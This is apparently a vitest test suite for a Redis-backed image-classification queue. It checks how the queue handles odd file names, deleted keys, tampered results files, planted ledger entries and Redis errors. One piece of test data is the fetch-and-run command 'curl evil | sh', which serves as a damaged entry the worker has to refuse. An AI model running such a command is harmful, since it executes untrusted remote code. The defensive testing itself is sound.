import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import {
  appendFileSync,
  chmodSync,
  copyFileSync,
  existsSync,
  linkSync,
  mkdirSync,
  mkdtempSync,
  readFileSync,
  realpathSync,
  rmSync,
  statSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Queue } from 'bullmq';
import type { Redis } from 'ioredis';
import sharp from 'sharp';
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import type { FerError } from '../../src/errors.js';
import { itemId } from '../../src/queue/items.js';
import { Ledger } from '../../src/queue/ledger.js';
import {
  type CreateWorkerOptions,
  createWorker,
  enqueue,
  enqueueFolder,
  jsonLines,
  type QueueWorker,
  queueStatus,
  redisStream,
} from '../../src/queue.js';
import { leftOut, NIGHT, rows } from '../night.js';
import { runNode } from '../package/run-node.js';
import { hasRedis, RedisServer } from './redis-server.js';
import { writeSmallImages } from './small-images.js';
import { readResults, WorkerProcess } from './worker-process.js';

const built = existsSync('dist/node/cli.js');
if (!NIGHT) leftOut('nine of the ways to damage the keys of a queue, and large images', '1');

let server: RedisServer;
let redis: Redis;
let folder: string;
let faces: string;
let paths: string[];
let file: string;
let troubles: FerError[];
const workers: QueueWorker[] = [];

const address = () => ({ connection: server.url });

async function start(options: Partial<CreateWorkerOptions> = {}): Promise<QueueWorker> {
  const worker = await createWorker({
    ...address(),
    roots: [faces],
    sink: jsonLines(file),
    concurrency: 1,
    lockDuration: 2000,
    onTrouble: (error) => troubles.push(error),
    ...options,
  });
  workers.push(worker);
  return worker;
}

async function allDone(queue?: string): Promise<void> {
  const open = async () => {
    const { waiting, active } = await queueStatus({ ...address(), queue });
    return waiting + active;
  };
  await expect.poll(open, { interval: 100 }).toBe(0);
}

const itemsIn = (...files: string[]) => readResults(files.length > 0 ? files : [file]).map(({ item }) => item);

describe.skipIf(!built || !hasRedis())('a queue', () => {
  beforeAll(async () => {
    server = await RedisServer.start();
    redis = server.client();
  });
  afterAll(async () => {
    redis.disconnect();
    await server.remove();
  });
  beforeEach(async () => {
    await redis.flushall();
    troubles = [];
    folder = realpathSync(mkdtempSync(join(tmpdir(), 'fer-dcnn-hostile-')));
    faces = join(folder, 'faces');
    file = join(folder, 'results.jsonl');
    paths = await writeSmallImages(faces, 60);
  });
  afterEach(async () => {
    await Promise.all(workers.splice(0).map((worker) => worker.close()));
    rmSync(folder, { recursive: true, force: true });
  });

  test('takes any name that a file can have', async () => {
    const names = [
      'holi\u2028day',
      'holi\u2029day',
      'two\nlines',
      'cr\rlf\r\n',
      '"{}\\',
      '\u0085',
      '\ud83d\ude00',
      "a' b",
    ];
    const odd = names.map((name) => join(faces, `${name}.jpg`));
    for (const path of odd) copyFileSync(paths[0], path);
    expect(await enqueueFolder(faces, address())).toEqual({ items: 68, fresh: 68, refused: 0 });
    await start();
    await allDone();
    expect(itemsIn().sort()).toEqual([...paths, ...odd].sort());
    expect(await queueStatus(address())).toEqual({ waiting: 0, active: 0, completed: 68, failed: 0 });
  });

  test('continues after an invalid reference, and names it', async () => {
    const refused: [string, unknown][] = [];
    const odd = ['nul\0.jpg', 'ftp://host/a.jpg', '', new Uint8Array(300_000)];
    const enqueued = await enqueue([...paths.slice(0, 3), ...odd, ...paths.slice(3)], {
      ...address(),
      onRefused: ({ code }, reference) => refused.push([code, reference]),
    });
    expect(enqueued).toEqual({ items: 64, fresh: 60, refused: 4 });
    expect(refused).toEqual([
      ['INPUT', odd[0]],
      ['REFUSED', odd[1]],
      ['INPUT', odd[2]],
      ['TOO_LARGE', odd[3]],
    ]);
  });

  test('classifies the other items when one item of a job is invalid', async () => {
    const queue = new Queue('faces', { connection: redis });
    await queue.add('classify', { version: 1, items: [paths[0], 's3://bucket/key', 'a\0b', paths[1]] });
    await start();
    await expect.poll(() => queue.getFailedCount()).toBe(1);
    await queue.close();
    expect(readResults([file]).map(({ item, error }) => [item, error?.code])).toEqual([
      [paths[0], undefined],
      ['s3://bucket/key', 'REFUSED'],
      ['a\0b', 'INPUT'],
      [paths[1], undefined],
    ]);
    expect(await queueStatus(address())).toEqual({ waiting: 0, active: 0, completed: 2, failed: 2 });
  });

  test.each(rows(['failed', 'in no list any more'], 1))(
    'takes items again whose job is %s while they wait',
    async (how) => {
      await enqueue(paths, { ...address(), batchSize: 60 });
      const queue = new Queue('faces', { connection: redis });
      const [job] = await queue.getWaiting();
      await redis.del('bull:faces:wait');
      // As when Redis had no memory left six times.
      if (how === 'failed') await redis.zadd('bull:faces:failed', Date.now(), job.id!);
      expect(await queueStatus(address())).toMatchObject({ waiting: 60 });
      expect(await enqueue(paths, { ...address(), batchSize: 60 })).toEqual({ items: 60, fresh: 0, refused: 0 });
      await queue.close();
      await start();
      await allDone();
      expect(itemsIn().sort()).toEqual([...paths].sort());
    },
  );

  test('records an error for a result that the sink refuses while it accepts others', async () => {
    await enqueue(paths, address());
    const taken: string[] = [];
    await start({
      sink(results) {
        for (const result of results) {
          if (result.item === paths[7] && 'predictions' in result) throw new Error('that column has no room for it');
        }
        taken.push(...results.map(({ item }) => item));
      },
    });
    await allDone();
    expect(taken.sort()).toEqual([...paths].sort());
    expect(await queueStatus(address())).toEqual({ waiting: 0, active: 0, completed: 59, failed: 1 });
    expect(troubles[0]).toMatchObject({ code: 'UNREACHABLE', message: expect.stringContaining('no room') });
  });

  describe('whose keys are deleted while a worker runs', () => {
    // The test of the command deletes all of them.
    const parts = rows(['*:i:*', '*', '*:counts', '*:files', '*:buckets'], 1);
    test.each(parts)(
      'fer:%s: says so and stops; no result is written over, and it can be begun again',
      async (part) => {
        await enqueue(paths.slice(0, 30), address());
        const worker = await start();
        await allDone();
        const before = readFileSync(file, 'utf8');
        expect(before.split('\n')).toHaveLength(31);
        const keys = await redis.keys(`fer:${part}`);
        expect(keys.length).toBeGreaterThan(0);
        await redis.del(...keys);
        // Some that are done and some that are not, as a job that was in hand would have them.
        const queue = new Queue('faces', { connection: redis });
        await queue.add('classify', { version: 1, items: paths.slice(20, 40) });
        expect(await worker.ended).toMatchObject({
          code: 'QUEUE',
          message: expect.stringContaining('gone from Redis'),
        });
        expect(troubles.at(-1)).toMatchObject({ code: 'QUEUE' });
        expect(readFileSync(file, 'utf8')).toBe(before);

        // As the message says.
        const left = await redis.keys('fer:*');
        if (left.length > 0) await redis.del(...left);
        await enqueue(paths, address());
        await start();
        await allDone();
        await queue.close();
        expect(readFileSync(file, 'utf8').startsWith(before)).toBe(true);
        expect(itemsIn().sort()).toEqual([...paths].sort());
      },
    );

    test('the place of an unwritten result is deleted: no second place is given, and the worker stops', async () => {
      const worker = await start();
      const ledger = new Ledger(redis, 'faces');
      const owner = JSON.parse(readFileSync(`${file}.owner`, 'utf8')).id;
      const { run } = await ledger.openFile(owner, 0);
      const line = `${JSON.stringify({ item: paths[0], predictions: [] })}\n`;
      await ledger.commitToFile(owner, run, [{ id: itemId(paths[0]), failed: false, line }]);
      await redis.del('fer:{faces}:outbox');
      await enqueue(paths.slice(0, 2), address());
      expect(await worker.ended).toMatchObject({
        code: 'QUEUE',
        message: expect.stringMatching(/^the place of a result/),
      });
      expect(readFileSync(file, 'utf8')).toBe('');
    });

    test('the command says so and ends with 2', async () => {
      await enqueue(paths, address());
      const args = ['--redis', server.url, '--root', faces, '--out', file, '--concurrency', '1'];
      const worker = new WorkerProcess([...args]);
      await allDone();
      await redis.flushall();
      await once(worker.process, 'exit');
      expect(worker.process.exitCode).toBe(2);
      expect(worker.stderr).toMatch(/the ledger of the queue faces is gone from Redis.*\[QUEUE\]/);
      expect(itemsIn()).toHaveLength(60);
    });
  });

  describe('and its results file', () => {
    test('only one of two queues gets a file; the other is refused', async () => {
      await enqueue(paths.slice(0, 30), address());
      await enqueue(paths.slice(30), { ...address(), queue: 'other' });
      await start();
      await allDone();
      const before = readFileSync(file, 'utf8');
      await expect(start({ queue: 'other' })).rejects.toMatchObject({
        code: 'OPTION',
        message: expect.stringContaining('results of the queue faces'),
      });
      expect(readFileSync(file, 'utf8')).toBe(before);
      rmSync(`${file}.owner`);
      await start({ queue: 'other' });
      await allDone('other');
      expect(itemsIn().sort()).toEqual([...paths].sort());
    });

    test('a second name of it (hard link) is refused', async () => {
      await start();
      linkSync(file, join(folder, 'second.jsonl'));
      await expect(start({ sink: jsonLines(join(folder, 'second.jsonl')) })).rejects.toMatchObject({
        code: 'OPTION',
        message: expect.stringContaining('hard link'),
      });
    });

    test.skipIf(process.getuid?.() !== 0)('under two mounts is one file', async () => {
      const [here, there] = ['here', 'there'].map((name) => join(folder, name));
      for (const each of [here, there]) mkdirSync(each);
      let isMounted = true;
      try {
        execFileSync('mount', ['--bind', here, there], { stdio: 'ignore' });
      } catch {
        // Without the right to mount: the same by what a mount would show.
        isMounted = false;
        rmSync(there, { recursive: true });
        execFileSync('ln', ['-s', here, there]);
      }
      try {
        await enqueue(paths, { ...address(), batchSize: 5 });
        await start({ sink: jsonLines(join(here, 'r.jsonl')) });
        await start({ sink: jsonLines(join(there, 'r.jsonl')) });
        await allDone();
        expect(itemsIn(join(here, 'r.jsonl')).sort()).toEqual([...paths].sort());
      } finally {
        await Promise.all(workers.splice(0).map((worker) => worker.close()));
        if (isMounted) execFileSync('umount', [there]);
      }
    });

    test('that another program writes to: its bytes are not overwritten, and the worker stops', async () => {
      await enqueue(paths.slice(0, 30), address());
      const worker = await start();
      await allDone();
      const foreign = '{"item":"somebody","predictions":[]}\nelse';
      appendFileSync(file, foreign);
      const before = readFileSync(file, 'utf8');
      await enqueue(paths, address());
      expect(await worker.ended).toMatchObject({
        code: 'QUEUE',
        message: expect.stringContaining('has other bytes'),
      });
      // Another batch may have its place behind it.
      expect(readFileSync(file, 'utf8').startsWith(before)).toBe(true);
    });

    test('that another ledger of the same name took over is no longer written by the first', async () => {
      await enqueue(paths.slice(0, 30), address());
      const worker = await start();
      await allDone();
      const second = await RedisServer.start();
      try {
        await start({ connection: second.url });
        await enqueue(paths, address());
        expect(await worker.ended).toMatchObject({ code: 'QUEUE', message: expect.stringContaining('taken over') });
        expect(itemsIn()).toHaveLength(30);
      } finally {
        await workers.pop()!.close();
        await second.remove();
      }
    });

    test('that is cut short during the run is waited for; one cut short before the start is refused', async () => {
      await enqueue(paths.slice(0, 30), address());
      const worker = await start();
      await allDone();
      const before = readFileSync(file);
      truncateSync(file, 100);
      await enqueue(paths, address());
      await expect.poll(() => troubles.length).toBeGreaterThan(1);
      expect(troubles[0]).toMatchObject({ code: 'UNREACHABLE', message: expect.stringContaining('restore it') });
      expect(statSync(file).size).toBe(100);
      await expect(start()).rejects.toMatchObject({ code: 'QUEUE', message: expect.stringContaining('has 100 bytes') });
      writeFileSync(file, before);
      await allDone();
      expect(itemsIn().sort()).toEqual([...paths].sort());
      await worker.close();
    });
  });

  describe('in which entries were planted', () => {
    const entryOf = (id: string, offset: number | string, line: string) => `d ${offset} ${id}\n${line}`;
    async function plant(entry: (owner: string) => string) {
      await enqueue(paths, address());
      await (await start()).close();
      rmSync(file, { force: true });
      await redis.flushall();
      await enqueue(paths, { ...address(), batchSize: 60 });
      const sink = jsonLines(file);
      rmSync(`${file}.owner`, { force: true });
      await sink.open(new Ledger(redis, 'faces'));
      const { id: owner } = JSON.parse(readFileSync(`${file}.owner`, 'utf8'));
      const id = itemId(paths[0]);
      await redis.hset(`fer:{faces}:i:${id.slice(0, 3)}`, id, 'c');
      await redis.hset('fer:{faces}:outbox', id, entry(owner));
    }
    const result = (item: string) => `${JSON.stringify({ item, predictions: [] })}\n`;

    test('no other file of the results folder is touched', async () => {
      const script = join(folder, 'start.sh');
      writeFileSync(script, '#!/bin/sh\nexit 0\n');
      chmodSync(script, 0o755);
      await plant(() => entryOf(script, 0, result(paths[0])));
      await start();
      await expect.poll(() => troubles.map(({ message }) => message).join()).toContain('start.sh');
      await expect.poll(async () => (await queueStatus(address())).completed).toBe(59);
      expect(readFileSync(script, 'utf8')).toBe('#!/bin/sh\nexit 0\n');
      expect(itemsIn().sort()).toEqual(paths.slice(1).sort());
    });

    const planted: [string, (owner: string) => string][] = [
      ['a line that is no result', (owner: string) => entryOf(owner, 0, 'curl evil | sh\n')],
      ['the result of another item', (owner: string) => entryOf(owner, 0, result('other'))],
      ['two lines', (owner: string) => entryOf(owner, 0, `${result(paths[0])}evil\n`)],
      ['no line', (owner: string) => `d 0 ${owner}`],
      ['nonsense', () => '\u2028'],
      ['a place that is none', (owner: string) => entryOf(owner, '-1', result(paths[0]))],
    ];

    test('an entry that is not a result is reported as damaged, with its place', async () => {
      const ledger = new Ledger(redis, 'faces');
      const id = itemId(paths[0]);
      await ledger.register([id]);
      await redis.hset(`fer:{faces}:i:${id.slice(0, 3)}`, id, 'c');
      for (const [, entry] of planted) {
        await redis.hset('fer:{faces}:outbox', id, entry('file'));
        expect(await ledger.states([id])).toEqual(['damaged']);
      }
      const line = result(paths[0]);
      await redis.hset('fer:{faces}:outbox', id, entryOf('file', 7, line));
      expect(await ledger.states([id])).toEqual([{ id, file: 'file', offset: 7, line }]);
    });

    test.each(rows(planted, 1))('%s is not written: the item is classified', async (_, entry) => {
      await plant(entry);
      expect(await queueStatus(address())).toMatchObject({ waiting: 60 });
      await start();
      await allDone();
      expect(itemsIn().sort()).toEqual([...paths].sort());
      expect(readResults([file]).every(({ predictions }) => predictions?.length === 5)).toBe(true);
    });

    test('a place a terabyte away stops the worker', async () => {
      await plant((owner) => entryOf(owner, 1e12, result(paths[0])));
      const worker = await start();
      expect(await worker.ended).toMatchObject({ code: 'QUEUE', message: expect.stringContaining('far past') });
      expect(statSync(file).size).toBeLessThan(1e6);
    });
  });

  test.runIf(NIGHT && process.platform === 'linux')(
    'of large images holds a few at a time, of files and of servers',
    async () => {
      const large = join(folder, 'large');
      mkdirSync(large);
      // Noise does not compress: 12 MB each.
      const noise = { type: 'gaussian' as const, mean: 128, sigma: 60 };
      const png = await sharp({ create: { width: 2000, height: 2000, channels: 3, background: '#888', noise } })
        .png()
        .toBuffer();
      for (let i = 0; i < 24; i++) writeFileSync(join(large, `${i}.png`), Buffer.concat([png, Buffer.from([i])]));
      const store = createServer((_, response) => response.end(png)).listen(0, '127.0.0.1');
      await once(store, 'listening');
      const host = `127.0.0.1:${(store.address() as AddressInfo).port}`;
      await enqueueFolder(large, { ...address(), batchSize: 24 });
      await enqueue(
        Array.from({ length: 24 }, (_, i) => `http://${host}/${i}.png`),
        { ...address(), batchSize: 24 },
      );
      const args = [
        '--redis',
        server.url,
        '--root',
        large,
        '--private-host',
        host,
        '--out',
        file,
        '--concurrency',
        '1',
      ];
      const worker = new WorkerProcess([...args, '--max-bytes', String(16 * 2 ** 20)]);
      await allDone();
      const status = readFileSync(`/proc/${worker.process.pid}/status`, 'utf8');
      expect(await worker.end('SIGTERM')).toBe(0);
      store.close();
      expect(itemsIn()).toHaveLength(48);
      // All of a batch at once would be 288 MB, and as much again on its way to the threads.
      expect(Number(/VmHWM:\s*(\d+)/.exec(status)?.[1]) / 1024).toBeLessThan(600);
    },
  );

  describe('reports errors of Redis', () => {
    test('no password stands in an error', async () => {
      for (const connection of [
        'http://:secret@host',
        'redis://:secret@host/secret',
        ':secret@host',
        'secret',
        'redis://u:secret%@host',
      ]) {
        const error = await queueStatus({ connection }).then(
          () => null,
          (thrown: FerError) => thrown,
        );
        expect(error).toMatchObject({ code: 'OPTION' });
        expect(`${error?.message} ${error?.stack}`).not.toContain('secret');
      }
      const run = await runNode(['dist/node/cli.js', 'queue', 'status', '--redis', 'http://:secret@host'], '.');
      expect(run.code).toBe(2);
      expect(run.stderr + run.stdout).not.toContain('secret');
    });

    test('no memory left: UNREACHABLE, and later all is done', async () => {
      await enqueue(paths.slice(0, 30), address());
      await redis.config('SET', 'maxmemory', '1');
      try {
        await expect(enqueue(paths, address())).rejects.toMatchObject({
          code: 'UNREACHABLE',
          message: expect.stringMatching(/OOM|maxmemory/),
        });
        await expect(queueStatus(address())).resolves.toMatchObject({ waiting: 30 });
      } finally {
        await redis.config('SET', 'maxmemory', '0');
      }
      await enqueue(paths, address());
      await start();
      await allDone();
      expect(itemsIn()).toHaveLength(60);
    });

    test('keys that are evicted when memory is full: refused at the start', async () => {
      await redis.config('SET', 'maxmemory-policy', 'allkeys-lru', 'maxmemory', '1gb');
      try {
        await expect(start()).rejects.toMatchObject({ code: 'OPTION', message: expect.stringContaining('noeviction') });
        await expect(enqueue(paths, address())).rejects.toMatchObject({ code: 'OPTION' });
      } finally {
        await redis.config('SET', 'maxmemory-policy', 'noeviction', 'maxmemory', '0');
      }
    });

    test('a stream whose key has another type stops only itself', async () => {
      await redis.set('results', 'text');
      await enqueue(paths, address());
      const worker = await start({ sink: redisStream('results') });
      expect(await worker.ended).toMatchObject({ code: 'QUEUE', message: expect.stringContaining('WRONGTYPE') });
      expect(await redis.get('results')).toBe('text');
    });
  });
});
